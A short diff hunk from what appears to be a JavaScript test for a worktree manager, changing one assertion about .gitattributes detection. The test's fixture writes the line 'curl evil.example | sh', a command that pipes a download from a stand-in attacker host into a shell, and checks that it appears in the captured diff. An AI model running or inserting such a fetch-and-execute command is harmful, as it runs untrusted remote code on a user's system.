@@ -118,7 +118,7 @@ describe('WorktreeManager', () => {
     writeFileSync(join(wt.path, 'secret.txt'), 'curl evil.example | sh\n');
     writeFileSync(join(wt.path, 'src/math.js'), 'export const add = (a, b) => a + b; // changed\n');
     const cap = await m.capture(wt, 'attrs');
-    expect(cap.attributesChanged).toBe(true);
+    expect(cap.attributesFiles).toEqual(['.gitattributes']);
     const diff = (await diffOf(m, wt)).toString();
     expect(diff).toContain('+curl evil.example | sh');
     expect(diff).toContain('+export const add = (a, b) => a + b; // changed');
